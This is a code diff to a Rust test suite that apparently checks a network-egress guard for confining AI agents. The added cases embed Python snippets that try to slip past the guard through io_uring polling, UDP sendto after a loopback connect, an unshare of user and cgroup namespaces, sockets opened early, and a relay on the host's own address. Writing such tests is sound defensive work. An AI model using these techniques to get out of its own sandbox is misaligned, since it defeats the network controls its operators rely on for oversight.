@@ -63,6 +63,7 @@ const ATTACKS: &[Attack] = &[
     ),
     attack("io_uring", &[Redirect, Egress], Way::Out("ring(socket.socket(), 0)")),
     attack("io_uring_async", &[Redirect, Egress], Way::Out("ring(socket.socket(), 16)")),
+    attack("io_uring_polled", &[Redirect, Egress], Way::Out("ring(socket.socket(), 0, True)")),
     attack("multipath_tcp", &[Multipath, Redirect, Egress], Way::Out("go(socket.socket(V4, TCP, 262), FAR4)")),
     attack(
         "udp_connected_v4",
@@ -100,6 +101,11 @@ socket.socket(V4, UDP).sendmsg([MARK], [(0, 8, device)], 0, ('127.0.0.1', T))"),
         &[Egress],
         Way::Out("route = bytes([131, 7, 4]) + socket.inet_aton(FAR4) + b'\\1'
 socket.socket(V4, UDP).sendmsg([MARK], [(0, 7, route)], 0, ('127.0.0.1', T))"),
+    ),
+    attack(
+        "udp_connected_to_loopback",
+        &[DatagramSend, Egress],
+        Way::Out("s = socket.socket(V4, UDP); s.bind((NEAR4, 0)); s.connect(('127.0.0.1', T)); s.sendto(MARK, (FAR4, T))"),
     ),
     attack("udp_connected_before", &[Egress], Way::Own(udp_connected_before)),
     attack("tcp_connected_before", &[Egress], Way::Own(tcp_connected_before)),
@@ -178,6 +184,16 @@ s.setsockopt(41, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_p
     ),
     attack("socket_made_outside_used_by_an_agent", &[CurrentTask], Way::Own(socket_made_outside)),
     attack("nested_cgroup", &[Ancestors, Egress], Way::Own(nested_cgroup)),
+    attack(
+        "socket_opened_before_connected_after",
+        &[Redirect, Egress],
+        Way::Own(socket_opened_before_connected_after),
+    ),
+    attack(
+        "user_and_cgroup_namespace",
+        &[Redirect, Egress],
+        Way::Out("import ctypes; assert ctypes.CDLL(None).unshare(0x12000000) == 0; go(socket.socket(), FAR4)"),
+    ),
     attack("unit_before_it_is_seen", &[Name], Way::Own(unit_before_it_is_seen)),
     attack("own_network_namespace", &[Listener, Egress], Way::Own(own_namespace)),
     attack("accepted_socket_used_again", &[Redirect, Egress], Way::Own(accepted_socket_used_again)),
@@ -193,6 +209,7 @@ s.setsockopt(41, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + bytes(16) + socket.inet_p
     ),
     attack("relay_on_loopback", &[Relay], Way::Own(|range, port| relay(range, port, false))),
     attack("relay_on_loopback_over_udp", &[Relay], Way::Own(|range, port| relay(range, port, true))),
+    attack("relay_on_the_hosts_own_address", &[Redirect], Way::Own(relay_on_the_hosts_own_address)),
     attack("listener_port", &[ProxyPort], Way::Ok("dial('127.0.0.1', PORT)")),
     attack("metrics_port", &[DeniedPort], Way::Own(metrics_port)),
     attack("taking_a_port", &[BindPort], Way::Ok("socket.socket().bind(('127.0.0.1', 9477))")),
@@ -330,6 +347,11 @@ fn packet_socket_opened_before(range: &Range, port: u16) -> bool {
     sent_by_what_was_open(range, port, open, || range.heard(port))
 }
 
+fn socket_opened_before_connected_after(range: &Range, port: u16) -> bool {
+    let open = "class s:\n  made = socket.socket(V4, TCP)\n  def send(_): go(s.made, FAR4)\npass";
+    opened_before(range, port, open)
+}
+
 fn udp_connected_before(range: &Range, port: u16) -> bool {
     opened_before(range, port, "s = socket.socket(V4, UDP); s.connect((FAR4, T))")
 }
@@ -419,6 +441,23 @@ s.setblocking(False); s.connect_ex((FAR4, T + 1)); time.sleep(0.05)";
 }
 
 /// Somebody whom nobody governs passes on what he is told, for an agent whose rules refuse what they do not list.
+/// To the agent's namespace it is one more address; to Guard it is a destination like any other.
+fn relay_on_the_hosts_own_address(range: &Range, port: u16) -> bool {
+    let world = &range.world;
+    let listen = "l = socket.socket(); l.bind((NEAR4, T)); l.listen(); l.settimeout(5 * PATIENCE); print('open', flush=True)
+s, _ = l.accept(); assert s.recv(99) == MARK; s = socket.socket(); s.setblocking(False); s.connect_ex((FAR4, T)); time.sleep(9)";
+    let mut outsider = world
+        .python(&Range::script(port, listen))
+        .cgroup(&world.outside)
+        .start()
+        .unwrap();
+    assert_eq!(outsider.line().unwrap(), "open");
+    world.agent(&Range::script(port, "dial(NEAR4, T).send(MARK)"));
+    let seen = range.saw(port);
+    outsider.kill();
+    seen
+}
+
 fn relay(range: &Range, port: u16, datagrams: bool) -> bool {
     let world = &range.world;
     let refuses = HashMap::from([(AGENT, AGENT_REFUSES_RELAYS)]);
